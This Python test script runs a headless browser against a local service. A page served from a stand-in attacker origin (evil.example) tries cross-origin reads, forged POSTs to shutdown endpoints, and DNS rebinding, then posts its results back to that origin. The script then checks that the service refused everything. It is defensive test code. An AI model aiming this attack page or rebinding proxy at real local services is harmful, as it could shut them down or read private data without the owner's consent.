#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A page of another origin in a real browser, trying every endpoint of a service: forms, fetch, images, scripts, frames, and DNS
rebinding. Nothing may change and no body may be read. Needs chromium (Debian: apt-get install chromium).

  tests/hostile/browser.py build/debug/bin/hephaestus serve --listen 127.0.0.1:0
"""
import http.client
import http.server
import json
import os
import queue
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from urllib.parse import urlsplit

READS = ["/health", "/health/live", "/health/ready", "/health/status", "/health/openapi.json", "/metrics", "/health/logs?tail=5"]
CHANGES = ["/health/shutdown", "/shutdown", "/health/shutdown/schedule", "/health/restart", "/health/check"]
PATIENCE = 60

PAGE = """<!doctype html><title>another origin</title><body><script>
const target = %(target)s, reads = %(reads)s, changes = %(changes)s, sameOrigin = %(same)s;
const results = [];
const within = promise => Promise.race([promise, new Promise(done => setTimeout(() => done('no end'), 3000))]);
async function attempt(what, path, work) {
  let read = 0, note = '';
  try { const got = await within(work()); if (typeof got === 'number') read = got; else note = String(got); } catch (error) { note = String(error); }
  results.push({what, path, read, note});
}
async function fetched(path, options) {
  const answer = await fetch(target + path, options);
  if (answer.type !== 'opaque' && !answer.ok) return 'status ' + answer.status; // its own words to a refused client hold nothing
  return (await answer.text()).length;
}
const framed = (path, begin) => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  frame.onload = () => { try { const text = frame.contentDocument.body.innerText;
    done(text.includes('uptime_seconds') || text.includes('shutdown_') ? text.length : 0); } catch (error) { done(String(error)); } };
  document.body.append(frame);
  begin(frame, target + path);
});
const loaded = (tag, path) => new Promise(done => {
  const one = document.createElement(tag);
  one.onload = () => done(tag === 'img' ? one.naturalWidth : 0);
  one.onerror = () => done('refused');
  one.src = target + path;
  document.body.append(one);
});
function post(frame, url) {
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: url, target: frame.name, enctype: 'text/plain'});
  document.body.append(form);
  form.submit();
}
(async () => {
  if (sameOrigin) await fetch('/rebind'); // from here on the name leads to the service
  const all = [];
  for (const path of reads.concat(changes)) {
    all.push(attempt('fetch no-cors', path, () => fetched(path, {mode: 'no-cors'})));
    all.push(attempt('fetch', path, () => fetched(path, {})));
    all.push(attempt('image', path, () => loaded('img', path)));
    all.push(attempt('script', path, () => loaded('script', path)));
    all.push(attempt('frame', path, () => framed(path, (frame, url) => { frame.src = url; })));
  }
  for (const path of changes) {
    all.push(attempt('post no-cors', path, () => fetched(path, {method: 'POST', mode: 'no-cors', body: '{}'})));
    all.push(attempt('post JSON', path, () => fetched(path, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})));
    all.push(attempt('delete', path, () => fetched(path, {method: 'DELETE'})));
    all.push(attempt('form', path, () => framed(path, post)));
    all.push(attempt('beacon', path, async () => { navigator.sendBeacon(target + path, '{}'); return 0; }));
  }
  await Promise.all(all);
  await fetch(%(report)s, {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)});
})();
</script>"""


class Attacker(http.server.ThreadingHTTPServer):
    """Serves the page and takes its report."""
    daemon_threads = True

    def __init__(self, page):
        super().__init__(("127.0.0.1", 0), Handler)
        self.page, self.reports = page, queue.Queue()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
        self.server.reports.put(json.loads(body))

    def log_message(self, *_):
        pass


class Rebinder:
    """The service's port on another loopback address: gives the page first, and after /rebind leads every connection to the service, as the
    attacker's name server would."""

    def __init__(self, port, page):
        self.port, self.page, self.rebound = port, page.encode(), False
        self.listener = socket.create_server(("127.0.0.2", port))
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            peer, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(peer, self.rebound), daemon=True).start()

    def serve(self, peer, rebound):
        with peer:
            if rebound:
                with socket.create_connection(("127.0.0.1", self.port)) as service:
                    back = threading.Thread(target=pump, args=(service, peer), daemon=True)
                    back.start()
                    pump(peer, service)
                    back.join()
            elif request := peer.recv(65536):
                self.rebound = self.rebound or request.startswith(b"GET /rebind")
                peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(self.page), self.page))


def pump(source, sink):
    try:
        while piece := source.recv(65536):
            sink.sendall(piece)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def get(port, path):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request("GET", path)
    return connection.getresponse().read()


def refusals(port):
    lines = get(port, "/metrics").decode().splitlines()
    return sum(float(line.split()[-1]) for line in lines if "refus" in line and not line.startswith("#"))


def browse(url, attacker):
    with tempfile.TemporaryDirectory() as profile:
        browser = subprocess.Popen(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={profile}",
                                    "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.2", "--remote-debugging-port=0", url],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            return attacker.reports.get(timeout=PATIENCE)
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()


def judge(name, port, url, attacker):
    before, refused = json.loads(get(port, "/health/status")), refusals(port)
    results = browse(url, attacker)
    after = json.loads(get(port, "/health/status"))
    refused = refusals(port) - refused
    read = [f"{one['what']} {one['path']}" for one in results if one["read"]]
    changed = [key for key in ("instance_id", "status", "should_shutdown") if before[key] != after[key]]
    print(f"{name}: {len(results)} attempts, {refused:.0f} refused by the service, {len(read)} bodies read, {len(changed)} changes")
    for one in read:
        print(f"wrong: read by {one}")
    for key in changed:
        print(f"wrong: {key} is now {after[key]}")
    if not refused:
        print("wrong: nothing came to the service")
    return not read and not changed and refused


def main():
    if len(sys.argv) < 2 or sys.argv[1].startswith("-"):
        print(__doc__)
        return 2
    service = subprocess.Popen(sys.argv[1:], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        port = urlsplit(service.stdout.readline().split()[-1]).port
        attacker = Attacker("")
        report = f"http://evil.example:{attacker.server_port}/report"

        def page(target, same):
            return PAGE % {"target": json.dumps(target), "reads": json.dumps(READS), "changes": json.dumps(CHANGES), "same": json.dumps(same),
                           "report": json.dumps(report)}

        attacker.page = page(f"http://127.0.0.1:{port}", False)
        passed = [judge("another origin", port, f"http://evil.example:{attacker.server_port}/", attacker)]
        Rebinder(port, page("", True))
        passed.append(judge("DNS rebinding", port, f"http://rebound.example:{port}/", attacker))
        return 0 if all(passed) and service.poll() is None else 1
    finally:
        service.terminate()
        service.wait()


if __name__ == "__main__":
    sys.exit(main())
